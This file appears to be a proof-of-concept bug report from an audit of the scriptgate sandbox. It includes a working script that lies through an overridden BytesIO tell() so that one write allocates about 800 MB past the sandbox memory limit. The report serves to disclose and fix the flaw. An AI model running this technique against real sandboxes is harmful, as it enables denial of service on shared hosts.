"""G04 (in-process HIGH; process mode contained by RLIMIT_AS): a script subclass of the
`io.BytesIO` stand-in whose `tell()` lies makes one `write` allocate 800 MB; the run is ok.

Mechanism: world/modules/io.py bounds the in-memory file by `_room(f, extra)`, which reads
the position through `f.tell()` -- the script's own override when the script subclasses the
holdable `BytesIO`. `seek(pos, whence)` refuses only `pos > MAX_CHARS`, so
`seek(50_000_000, SEEK_CUR)` sixteen times moves the real position to 800 MB; the next
`write(b"x")` makes C zero-fill the 800 MB gap in one call.
Measured here: host peak RSS +762 MB against memory_bytes=200 MiB, ok=True,
len(getvalue()) == 800000001. (More seeks: more GB, bounded only by the host.)
Expected: refused (README Limits: in-memory files hold at most 50,000,000 bytes, one call
does not grow the host past the budget). Actual: allowed.
Run: (ulimit -v 6000000; uv run python findings2/g04_bytesio_subclass_tell_lies.py)
"""

from __future__ import annotations

from scriptgate import Limits, Sandbox

SCRIPT = """
import io
class B(io.BytesIO):
    def tell(self):
        return 0
f = B()
for i in range(16):
    f.seek(50_000_000, 1)
f.write(b"x")
len(f.getvalue())
"""


def peak_mb() -> int:
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmHWM"):
                return int(line.split()[1]) // 1024
    return 0


sandbox = Sandbox([], limits=Limits(timeout=10, memory_bytes=200 * 2**20))
sandbox.run_sync("1")
before = peak_mb()
result = sandbox.run_sync(SCRIPT)
print("ok", result.ok, "value", result.value, "error", result.error)
print(f"host peak RSS +{peak_mb() - before} MB (budget 200 MiB)")
